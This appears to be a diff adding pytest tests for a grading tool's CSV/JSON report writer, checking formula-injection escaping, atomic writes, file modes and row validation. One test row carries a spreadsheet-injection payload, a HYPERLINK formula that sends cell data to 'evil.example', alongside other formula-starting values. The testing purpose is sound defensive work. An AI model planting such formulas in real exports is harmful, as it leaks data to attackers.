@@ -6,6 +6,8 @@ Finding (dl_instructor.files.find_submissions), reading (files.read_bytes), pars
 tests/test_grade.py.
 """
 
+import csv
+import dataclasses
 import json
 import os
 import re
@@ -16,7 +18,7 @@ import threading
 import nbformat
 import pytest
 
-from dl_instructor import files, submission
+from dl_instructor import files, report, submission
 from dl_instructor.files import Problem, find_submissions, printable, read_bytes
 from dl_instructor.submission import InvalidSubmission, read_submission
 
@@ -387,3 +389,118 @@ def test_lenient_with_incomplete_cells():
                                  {"cell_type": "markdown", "metadata": []}]}).encode()
     assert read_submission(data) == [{"cell_type": "code", "source": "a = 1\n2", "metadata": {}},
                                      {"cell_type": "markdown", "source": "", "metadata": {}}]
+
+
+# ---------------------------------------------------------------- the report
+
+
+COLUMNS = ("learner", "notebook", "exercise", "points", "max_points", "status", "message")
+
+
+@dataclasses.dataclass
+class Row:
+    learner: str
+    notebook: str
+    exercise: str
+    points: float
+    max_points: float
+    status: str
+    message: str
+
+
+ROWS = [
+    Row("ada", "01_tiny", "add", 1.0, 1.0, "passed", "add: all checks passed."),
+    {"learner": "ada", "notebook": "01_tiny", "exercise": "mean_of", "points": 0.0, "max_points": 2.0,
+     "status": "failed", "message": '=HYPERLINK("http://evil.example/?"&A1, "click")'},
+    Row('=HYPERLINK("x")', "01_tiny", "add", 0.0, 1.0, "error", "-2+3"),
+    Row("+1", "01_tiny", "add", 0.0, 1.0, "error", "@SUM(A1)\tand \rmore"),
+    Row("\tbob", "01_tiny", "add", 0.5, 1.0, "failed", "\rcr, \ud800 a lone surrogate, and a pair \U0001f600"),
+]
+
+
+def read_csv(path):
+    with open(path, newline="", encoding="utf-8") as f:
+        return list(csv.reader(f))
+
+
+def test_report_csv_is_escaped_and_json_round_trips(tmp_path):
+    csv_path, json_path = report.write_report(ROWS, tmp_path / "out" / "report.csv", COLUMNS)
+    assert (csv_path, json_path) == (tmp_path / "out" / "report.csv", tmp_path / "out" / "report.json")
+    assert read_csv(csv_path) == [
+        list(COLUMNS),
+        ["ada", "01_tiny", "add", "1.0", "1.0", "passed", "add: all checks passed."],
+        ["ada", "01_tiny", "mean_of", "0.0", "2.0", "failed", '\'=HYPERLINK("http://evil.example/?"&A1, "click")'],
+        ['\'=HYPERLINK("x")', "01_tiny", "add", "0.0", "1.0", "error", "'-2+3"],
+        ["'+1", "01_tiny", "add", "0.0", "1.0", "error", "'@SUM(A1)\tand \rmore"],
+        ["'\tbob", "01_tiny", "add", "0.5", "1.0", "failed",
+         "'\rcr, \ufffd a lone surrogate, and a pair \U0001f600"],
+    ]
+    raw = json_path.read_bytes()
+    assert raw.isascii() and b"\\ud800" not in raw
+    data = json.loads(raw)
+    assert data["columns"] == list(COLUMNS)
+    expected = [dataclasses.asdict(r) if dataclasses.is_dataclass(r) else r for r in ROWS]
+    expected[-1] = {**expected[-1], "message": "\rcr, \ufffd a lone surrogate, and a pair \U0001f600"}
+    assert data["rows"] == expected  # the JSON keeps every text as it was (less the lone surrogate)
+    assert data["totals"] == {"ada": {"points": 1.0, "max_points": 3.0},
+                              '=HYPERLINK("x")': {"points": 0.0, "max_points": 1.0},
+                              "+1": {"points": 0.0, "max_points": 1.0}, "\tbob": {"points": 0.5, "max_points": 1.0}}
+    assert list(data) == ["columns", "rows", "totals"]
+
+
+def test_a_new_report_gets_the_mode_open_would_give(tmp_path):
+    csv_path, json_path = report.write_report(ROWS[:1], tmp_path / "report", COLUMNS)
+    umask = os.umask(0o22)
+    os.umask(umask)
+    assert {stat.S_IMODE(p.stat().st_mode) for p in (csv_path, json_path)} == {0o666 & ~umask}
+
+
+def failing_on_call(real, n):
+    calls = []
+
+    def fake(*args, **kwargs):
+        calls.append(args)
+        if len(calls) == n:
+            raise OSError(28, "No space left on device")
+        return real(*args, **kwargs)
+
+    return fake
+
+
+@pytest.mark.parametrize("target, n", [
+    ("fsync", 1),  # while the CSV is staged
+    ("fsync", 2),  # while the JSON is staged, the CSV complete beside it
+    ("replace", 1),  # putting the CSV in place
+    ("replace", 2),  # putting the JSON in place, the new CSV already there: it is put back
+])
+@pytest.mark.parametrize("before", ["an old report", "no report"])
+def test_a_report_that_fails_midway_leaves_the_old_one_whole(tmp_path, monkeypatch, target, n, before):
+    base = tmp_path / "report"
+    if before == "an old report":
+        report.write_report(ROWS[:1], base, COLUMNS)
+    old = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
+    monkeypatch.setattr(report.os, target, failing_on_call(getattr(os, target), n))
+    with pytest.raises(OSError, match="No space left"):
+        report.write_report(ROWS, base, COLUMNS)
+    monkeypatch.undo()
+    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == old  # no temporary file left either
+    report.write_report(ROWS, base, COLUMNS)
+    assert len(json.loads((tmp_path / "report.json").read_text())["rows"]) == len(ROWS)
+
+
+@pytest.mark.parametrize("rows, error, words", [
+    ([Row("ada", "01_tiny", "add", float("nan"), 1.0, "passed", "")], ValueError, "not JSON compliant"),
+    ([Row("ada", "01_tiny", "add", float("inf"), 1.0, "passed", "")], ValueError, "not JSON compliant"),
+    ([{"learner": "ada", "points": 1.0}], ValueError, "expected the columns"),
+    ([("ada", "01_tiny")], TypeError, "must be a dataclass or a dict"),
+])
+def test_bad_rows_write_nothing(tmp_path, rows, error, words):
+    with pytest.raises(error, match=words):
+        report.write_report(rows, tmp_path / "report", COLUMNS)
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_the_columns_must_give_the_totals(tmp_path):
+    with pytest.raises(ValueError, match="lack one of learner, points and max_points"):
+        report.write_report([], tmp_path / "report", ("learner", "points"))
+    assert list(tmp_path.iterdir()) == []
